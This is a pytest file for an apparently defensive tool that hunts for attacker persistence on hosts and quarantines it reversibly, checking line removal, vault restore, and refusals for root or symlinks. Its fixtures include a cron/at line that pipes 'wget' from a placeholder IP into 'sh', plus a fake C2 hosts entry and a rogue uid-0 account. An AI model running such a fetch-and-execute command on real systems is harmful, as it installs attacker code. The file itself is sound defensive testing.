"""What removing a hunt rule's hit means: declared on every rule, turned into the items the
quarantine module takes, and (for lines of a file) done on this machine's files in a
temporary directory: the line goes, the file keeps its mode, owner and inode, and the
vault's copy puts it back."""

from __future__ import annotations

import hashlib
import os
import stat
from pathlib import Path
from types import ModuleType

import pytest
import yaml
from test_hunt_rules import context, with_params
from unit_builders import load_role_module

from assessor.errors import ConfigError
from assessor.hunt.catalogue import HuntRule, judge_rules, load_rules
from assessor.hunt.removal import ACTIONS, parse_removal
from assessor.module_utils import assessor_removals as removals
from assessor.module_utils.assessor_vault import vault_dir
from assessor.quarantine.items import HOST_ACTION, NOT_HERE, candidates, unremovable
from assessor.results import HostResult

RULES = load_rules()


def kind_of(evidence: str) -> str:
    facts = yaml.safe_load(evidence) if evidence else {}
    return str(facts.get("kind", "")) if isinstance(facts, dict) else ""


@pytest.fixture(scope="module")
def module() -> ModuleType:
    return load_role_module("quarantine", "assessor_quarantine")


@pytest.mark.parametrize("rule", RULES, ids=lambda r: r.id)
def test_every_rule_says_what_removing_its_hit_means(rule: HuntRule) -> None:
    assert rule.remove.action in ACTIONS and rule.remove.why, rule.source
    findings = judge_rules([with_params(rule)], rule.fixtures["fail"], context(rule))
    items = candidates(HostResult("h1", findings=findings))
    first = rule.remove.action
    if first in NOT_HERE:
        assert items == [] and unremovable(HostResult("h1", findings=findings)) == []
    elif first == "none":
        assert items == []
        assert all(rule.remove.why in why for why in unremovable(
            HostResult("h1", findings=findings)))
    else:
        wanted = {HOST_ACTION[a] for f in findings
                  for a in rule.remove.actions_for(kind_of(f.evidence))}
        assert {i.action for i in items} <= wanted and items, (items, wanted)


def test_items_merge_lines_of_one_file_and_a_whole_file_wins() -> None:
    rules = {r.id: r for r in RULES}
    keys = rules["hunt.persist.ssh-key-options"]
    findings = judge_rules([keys], keys.fixtures["fail"], context(keys))
    (item,) = candidates(HostResult("h1", findings=findings))
    assert item.action == "lines" and item.path == "/root/.ssh/authorized_keys"
    assert [ln["line"] for ln in item.lines] == [2, 3]
    cron = rules["hunt.persist.cron"]
    state = {"cron": [{"path": "/var/spool/cron/atjobs/a01", "kind": "at", "lines": [
        {"line": 6, "text": "wget -q -O- http://192.0.2.1/a | sh"}]}]}
    (at_job,) = candidates(HostResult("h1", findings=judge_rules([cron], state, context(cron))))
    assert (at_job.action, at_job.path, at_job.sha256) == ("file", "/var/spool/cron/atjobs/a01",
                                                           "")
    accounts = rules["hunt.persist.accounts-uid0"], rules["hunt.persist.accounts-shell"]
    state = {"accounts": [{"name": "root", "uid": "0", "shell": "/bin/bash"},
                          {"name": "sysadm2", "uid": "0", "shell": "/bin/bash", "line": 30},
                          {"name": "www-data", "uid": "33", "shell": "/bin/bash"}]}
    findings = [f for r in accounts for f in judge_rules([r], state, context(r))]
    got = {(i.action, i.name) for i in candidates(HostResult("h1", findings=findings))}
    assert got == {("account", "sysadm2"), ("shell", "www-data")}  # sysadm2 goes, shell too


def test_a_bad_removal_names_the_rule() -> None:
    with pytest.raises(ConfigError, match=r"r\.yaml:3: hunt rule x: remove: action 'burn'"):
        parse_removal("r.yaml:3: hunt rule x", {"action": "burn"})
    with pytest.raises(ConfigError, match="unknown key when"):
        parse_removal("r.yaml:3: hunt rule x", {"action": "file", "when": 1})
    assert parse_removal("w", "line").actions_for("at") == ("line",)


def plant(tmp_path: Path) -> Path:
    target = tmp_path / "etc" / "hosts"
    target.parent.mkdir()
    target.write_bytes(b"127.0.0.1\tlocalhost\n# c2\n127.0.0.66\tc2.example\n::1 ip6\n")
    os.chown(target, 65534, 65534)
    os.chmod(target, 0o640)
    return target


@pytest.mark.skipif(os.geteuid() != 0, reason="the vault is root-only")
def test_lines_go_the_file_keeps_mode_owner_and_inode_and_comes_back(
    tmp_path: Path, module: ModuleType,
) -> None:
    target = plant(tmp_path)
    original, inode = target.read_bytes(), target.stat().st_ino
    item = {"id": "lines-1", "action": "lines", "path": str(target),
            "lines": [{"line": 3, "text": "127.0.0.66\tc2.example"}]}
    vault = vault_dir(str(tmp_path / "vault" / "q"), "run1")
    preview = removals.remove_lines(item, vault, True)
    assert preview["status"] == "would-remove" and target.read_bytes() == original
    done = removals.remove_lines(item, vault, False)
    assert done["status"] == "moved" and done["reversible"], done
    assert target.read_bytes() == b"127.0.0.1\tlocalhost\n# c2\n::1 ip6\n"
    info = target.stat()
    assert (info.st_ino, info.st_uid, stat.S_IMODE(info.st_mode)) == (inode, 65534, 0o640)
    kept = Path(done["vault"])
    assert hashlib.sha256(kept.read_bytes()).hexdigest() == done["sha256"] == \
        hashlib.sha256(original).hexdigest()
    assert removals.remove_lines(item, vault, False)["status"] == "refused"  # line 3 changed
    back = module.restore_one({"id": "lines-1", "path": str(target), "sha256": done["sha256"]},
                              vault, False)
    assert back["status"] == "restored", back
    assert target.read_bytes() == original and target.stat().st_ino == inode


@pytest.mark.skipif(os.geteuid() != 0, reason="the vault is root-only")
def test_lines_are_never_removed_through_a_symlink(tmp_path: Path) -> None:
    target = plant(tmp_path)
    link = tmp_path / "etc" / "hosts.link"
    link.symlink_to(target)
    item = {"id": "lines-2", "action": "lines", "path": str(link),
            "lines": [{"line": 3, "text": "127.0.0.66\tc2.example"}]}
    vault = vault_dir(str(tmp_path / "vault" / "q"), "run1")
    assert removals.remove_lines(item, vault, False)["status"] == "refused"
    assert b"c2.example" in target.read_bytes()


def test_only_mounts_over_proc_pids_are_unmounted_and_root_stays() -> None:
    assert removals.unmount({"id": "u", "action": "unmount", "path": "/home"}, False)[
        "status"] == "refused"
    assert removals.remove_account({"id": "a", "action": "account", "name": "root"}, "/x",
                                 False)["status"] == "refused"
    assert removals.set_nologin({"id": "s", "action": "shell", "name": "root"}, False)[
        "status"] == "refused"
    assert removals.stop_process({"id": "p", "action": "process", "pid": 1}, {}, "/x", {}, False,
                               {})["status"] == "refused"
